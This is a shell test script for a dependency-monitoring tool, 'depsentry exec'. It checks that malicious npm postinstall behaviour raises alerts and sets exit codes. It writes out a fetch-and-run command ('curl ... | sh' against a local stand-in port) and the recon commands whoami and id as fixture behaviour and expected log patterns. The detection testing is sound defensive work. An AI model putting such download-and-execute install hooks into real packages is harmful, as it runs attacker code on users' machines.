#!/bin/bash
# depsentry exec around malicious installs. A postinstall `curl ... | sh`
# (critical) under --fail-on high: npm succeeds, exec exits 3, and every
# alert of the install is already in the file when exec returns (the
# drain), named as exec's command's, and told in the summary. A postinstall
# running whoami and id (medium) under --fail-on critical exits 0 with both
# alerts written and listed; without --fail-on, alerts never change the
# exit status.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/agent.sh"

need_cmd curl curl
dl_tgz=$(npm_pack download-exec)
recon_tgz=$(npm_pack recon)
DS_E2E_PORT=$(closed_port)
export DS_E2E_PORT

EXEC_OPTS=(--fail-on high)
exec_npm "$T/dl" "$dl_tgz"
expect_rc 3 "a critical alert did not cross --fail-on high"
grep -q '^added 1 package' "$EXEC_LOG.out" || fail "npm did not complete the install"
step "the alerts are in the file already, and name exec's command"
a=$(exec_alert package.name=ds-e2e-download-exec process.name=curl)
check_alert "$a" "the curl alert is incomplete" \
	"process.command_line=curl -s http://127.0.0.1:$DS_E2E_PORT/x" 'event.severity>=73' \
	depsentry.exec.pid? depsentry.session.package_manager=npm \
	--expr 'f("depsentry.exec.pid") == f("depsentry.session.pid")'
a=$(exec_alert package.name=ds-e2e-download-exec depsentry.severity=critical \
	'process.command_line~^sh -c curl -s \S+ \| sh$')
check_alert "$a" "the 'curl ... | sh' line is not exec's command's" depsentry.exec.pid? \
	--expr 'f("depsentry.exec.pid") == f("process.parent.pid")'
expect_log '^depsentry exec: [0-9]+ alerts, highest critical' "the summary does not say critical"
expect_log '^  [0-9]+ alerts at or above high: threshold crossed$' "the summary does not say the threshold was crossed"
expect_log 'pm-suspicious-child: [0-9]+ \(critical 1, high [0-9]+' "the summary does not count per rule and severity"
expect_log ' critical +pm-suspicious-child ds-e2e-download-exec@2\.0\.0: npm > [a-z]+ ran sh -c curl -s http://127\.0\.0\.1:\$\{DS_E2E_PORT\}/x \| sh$' \
	"the summary does not tell the critical alert's story"
expect_log 'ds-e2e-download-exec@2\.0\.0: npm > .* > curl ran curl -s ' "the summary does not tell curl's story"
expect_log 'but [0-9]+ alerts at or above high: exit 3$' "exec does not say why it exits 3"
[ "$(exec_count 'depsentry.exec.pid?')" -eq "$(exec_count package.name=ds-e2e-download-exec)" ] ||
	fail "an alert of the install does not name exec's command"

step "medium alerts under --fail-on critical"
EXEC_OPTS=(--fail-on critical)
exec_npm "$T/recon" "$recon_tgz"
expect_rc 0 "medium alerts crossed --fail-on critical"
for cmd in whoami id; do
	exec_alert package.name=ds-e2e-recon "process.name=$cmd" depsentry.severity=medium \
		depsentry.exec.pid? >/dev/null
	expect_log "ds-e2e-recon@1\.2\.3: npm > .* > $cmd ran $cmd\$" "the summary does not list $cmd"
done
[ "$(exec_count package.name=ds-e2e-recon)" -eq 2 ] ||
	fail "expected exactly the whoami and id alerts of the recon install"
expect_log '^depsentry exec: 2 alerts, highest medium' "the summary does not count 2 medium alerts"
expect_log '^  0 alerts at or above critical: under the threshold$' "the summary does not say the threshold held"

step "no --fail-on: the alerts are reported, the status is npm's"
EXEC_OPTS=()
exec_npm "$T/dl2" "$dl_tgz"
expect_rc 0 "alerts changed the status without --fail-on"
exec_alert package.name=ds-e2e-download-exec depsentry.severity=critical >/dev/null
expect_log '^depsentry exec: [0-9]+ alerts, highest critical' "the summary does not report the alerts"

exec_finish
